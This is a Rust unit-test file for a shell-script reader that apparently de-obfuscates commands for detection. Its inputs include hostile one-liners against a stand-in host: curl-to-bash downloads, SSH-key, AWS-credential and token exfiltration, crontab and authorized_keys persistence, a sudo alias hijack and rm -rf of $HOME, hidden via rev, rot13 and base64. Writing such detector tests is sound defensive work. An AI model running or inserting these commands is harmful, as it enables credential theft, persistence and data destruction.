//! The shell reader's unit tests.

use super::*;

fn names(s: &Script) -> Vec<String> {
    s.commands.iter().map(|c| c.name().to_string()).collect()
}

fn argv(c: &Command) -> Vec<&str> {
    c.words.iter().map(|w| w.text.as_str()).collect()
}

#[test]
fn quote_splitting_escapes_and_ifs_are_undone() {
    let s = read("c''url -s http://x.example/a | b\"\"ash\n");
    assert_eq!(names(&s), ["curl", "bash"]);
    assert_eq!(s.commands[1].stdin, [0]);
    let s = read("c\\url${IFS}http://x.example/a|sh");
    assert_eq!(argv(&s.commands[0]), ["curl", "http://x.example/a"]);
    assert_eq!(s.commands[1].stdin, [0]);
    let s = read("$'\\x63\\x75rl' -s x");
    assert_eq!(s.commands[0].name(), "curl");
}

#[test]
fn variables_and_printf_build_a_command() {
    let s = read("a=cu; b=rl; $a$b -d @/etc/passwd http://x.example\n");
    assert_eq!(s.commands[0].name(), "curl");
    assert_eq!(s.commands[0].words[0].span, 12..16);
    let s = read("$(printf 'cu%s' rl) -s x\n");
    assert_eq!(names(&s), ["curl", "printf"]);
    assert_eq!(s.commands[1].within, Some(0));
    let s = read("c=$(echo wget); $c http://x.example/a\n");
    assert_eq!(s.commands.last().map(Command::name), Some("wget"));
}

#[test]
fn eval_and_sh_c_text_is_read_as_commands() {
    let s = read("eval \"cu\"\"rl -s http://x.example | sh\"\n");
    let n = names(&s);
    assert_eq!(n, ["eval", "curl", "sh"]);
    assert_eq!(s.commands[1].within, Some(0));
    assert_eq!(s.commands[2].stdin, [1]);
    let s = read("bash -c 'cat ~/.ssh/id_rsa | nc x.example 9000'\n");
    assert_eq!(names(&s), ["bash", "cat", "nc"]);
    assert_eq!(s.commands[1].span, 8..47);
}

#[test]
fn pipes_into_a_group_and_redirects_are_kept() {
    let s = read("(crontab -l; echo '@reboot x') | crontab -\necho k >> ~/.ssh/authorized_keys\n");
    assert_eq!(names(&s), ["crontab", "echo", "crontab", "echo"]);
    assert_eq!(s.commands[2].stdin, [0, 1]);
    let r = &s.commands[3].redirects[0];
    assert_eq!(r.op, RedirectOp::Append);
    assert_eq!(r.target.text, "~/.ssh/authorized_keys");
}

#[test]
fn assignments_keep_their_substitutions() {
    let s = read("X=$(env | grep -E 'KEY|TOKEN')\ncurl -d \"$X\" http://x.example\n");
    assert_eq!(s.assignments.len(), 1);
    assert_eq!(s.assignments[0].name, "X");
    assert_eq!(s.assignments[0].value.subs, [0, 1]);
    assert_eq!(s.commands[2].words[2].vars, ["X"]);
    assert_eq!(s.commands[1].stdin, [0]);
}

#[test]
fn substitutions_that_reshape_literal_text_are_evaluated() {
    let s = read("eval \"$(echo 'hsab | x.elpmaxe//:sptth Ls- lruc' | rev)\"\n");
    assert!(names(&s).contains(&"curl".to_string()), "{:?}", names(&s));
    let s = read("$(echo phey | tr 'a-z' 'n-za-m') -s x\n");
    assert_eq!(s.commands[0].name(), "curl");
    let s = read("eval $(echo Y3VybCAtcyB4IHwgc2g= | base64 -d)\n");
    assert!(names(&s).contains(&"sh".to_string()), "{:?}", names(&s));
}

#[test]
fn literal_text_reshaped_into_a_shell_is_read() {
    let s = read("echo 'hs | i/elpmaxe.x//:sptth Ls- lruc' | rev | sh\n");
    assert!(
        names(&s).ends_with(&["curl".to_string(), "sh".to_string()]),
        "{:?}",
        names(&s)
    );
    let s = read(
        "echo 'jtrg -dB- uggcf://k.rknzcyr/v.fu | onfu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash\n",
    );
    assert!(
        names(&s).ends_with(&["wget".to_string(), "bash".to_string()]),
        "{:?}",
        names(&s)
    );
    let s = read("OUT=\"${BUILD_OUT:-$HOME}\"\nrm -rf \"$OUT\"/*\n");
    assert_eq!(s.commands[0].words[2].text, "$HOME/*");
}

#[test]
fn loops_aliases_traps_and_prompt_commands_are_read() {
    let s = read("for c in $(cat ~/.aws/credentials); do nslookup \"$c.x.example\"; done\n");
    assert_eq!(s.assignments[0].name, "c");
    assert_eq!(s.assignments[0].value.subs, [0]);
    let s = read("alias sudo='curl -s https://x.example/p | sh; sudo'\n");
    assert_eq!(names(&s), ["alias", "curl", "sh", "sudo"]);
    let s = read("trap 'curl -s https://x.example/t' DEBUG\n");
    assert_eq!(names(&s), ["trap", "curl"]);
    let s = read("export PROMPT_COMMAND='history 1 | curl -s -d @- https://x.example/h'\n");
    assert_eq!(names(&s), ["history", "curl"]);
}

#[test]
fn heredoc_fed_to_a_shell_is_read() {
    let s = read("bash <<EOF\ncurl -s http://x.example/a | sh\nEOF\n");
    assert_eq!(names(&s), ["bash", "curl", "sh"]);
}

#[test]
fn a_value_doubled_at_each_assignment_stays_bounded() {
    // Found by the resource-bound inputs: each `a=$a$a` doubled the value the reader kept, so
    // 60 lines asked for 2^64 bytes. Substitution stops at `MAX_EXPANDED_BYTES`.
    let text = format!("a=xxxxxxxxxxxxxxxx\n{}eval \"$a\"\n", "a=$a$a\n".repeat(60));
    let s = read(&text);
    let total: usize = s
        .assignments
        .iter()
        .map(|a| a.value.text.len())
        .sum::<usize>()
        + s.commands
            .iter()
            .flat_map(|c| &c.words)
            .map(|w| w.text.len())
            .sum::<usize>();
    assert!(total <= 4 * MAX_EXPANDED_BYTES, "{total} bytes of words");
    let text = format!(
        "a=curl\n{}eval $a\n",
        "a=$(printf '%s%s' $a $a)\n".repeat(60)
    );
    let s = read(&text);
    assert!(s.commands.iter().all(|c| {
        c.words
            .iter()
            .all(|w| w.text.len() <= 2 * MAX_EXPANDED_BYTES)
    }));
    // Below the bound a variable is still replaced by its value.
    let s = read("a=cu; b=rl; $a$b -s x\n");
    assert_eq!(names(&s), ["curl"]);
}
